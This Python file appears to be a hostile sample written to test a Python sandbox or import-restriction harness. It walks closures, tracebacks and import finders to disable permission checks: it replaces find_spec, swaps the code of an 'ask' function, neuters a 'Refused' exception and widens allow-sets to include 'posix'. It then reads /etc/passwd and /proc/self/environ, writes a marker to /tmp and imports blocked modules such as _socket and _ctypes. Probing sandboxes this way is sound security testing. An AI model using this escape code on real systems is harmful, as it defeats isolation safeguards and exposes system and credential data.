"""Patches the harness's functions for modules and files through closures, tracebacks and finders."""

import builtins
import io
import sys


def everything():
    seen, queue = set(), [open, io.open, builtins.open, *sys.meta_path]
    try:
        import hostile_module
    except ImportError as error:
        entry = error.__traceback__
        while entry:
            queue += [entry.tb_frame.f_globals, entry.tb_frame.f_locals]
            entry = entry.tb_next
    while queue and len(seen) < 20_000:
        value = queue.pop(0)
        if id(value) in seen:
            continue
        seen.add(id(value))
        yield value
        if type(value) is dict:
            queue += list(value.values())
        elif type(value) in (list, tuple, set, frozenset):
            queue += list(value)
        for name in ("__closure__", "__self__", "__func__", "__globals__", "__defaults__", "__dict__", "cell_contents"):
            try:
                queue.append(getattr(value, name))
            except BaseException:
                pass


def read(opened):
    for path in ("/etc/passwd", "play.pyc", "/proc/self/environ"):
        try:
            print("hostile: it can be read", opened(path, "rb").read(40))
        except BaseException:
            pass
    try:
        opened("/tmp/hostile_mark", "wb").write(b"x")
    except BaseException:
        pass


def nothing(*_, **__):
    frame = sys._getframe(1)
    while frame:
        frame.f_locals.update(event="exec", harmless={"import", "open", "os.system"})
        frame = frame.f_back


def with_as_many(variables):
    """A code like that of `nothing`, with so many free variables."""
    names = [f"v{number}" for number in range(variables)]
    text = f"def outer({', '.join(names)}):\n def inner(*_):\n  nothing(), {', '.join(names)}\n return inner"
    space = {"nothing": nothing}
    exec(text, space)
    builtins.nothing = nothing
    return space["outer"](*names).__code__


class Shelf(Shelf):
    def usage(self):
        for value in list(everything()):
            name = getattr(value, "__name__", "")
            if name == "open":
                read(value)
            for change in (
                lambda value=value: setattr(value, "find_spec", nothing),
                lambda value=value: name == "ask"
                and setattr(value, "__code__", with_as_many(len(value.__code__.co_freevars))),
                lambda value=value: value.__setitem__("may_be_loaded", lambda _: True) if "preload" in value else None,
                lambda value=value: setattr(value, "asked", {"os", "posix"}),
                lambda value=value: name == "Refused" and setattr(value, "__init__", nothing),
                lambda value=value: [
                    cell.__setattr__("cell_contents", {"posix"})
                    for cell in value.__closure__
                    if type(cell.cell_contents) is set
                ],
            ):
                try:
                    change()
                except BaseException:
                    pass
        read(open)
        for name in ("_posixsubprocess", "_socket", "heapq", "_ctypes", "hostile_module"):
            try:
                __import__(name)
            except ImportError:
                pass
        return super().usage()
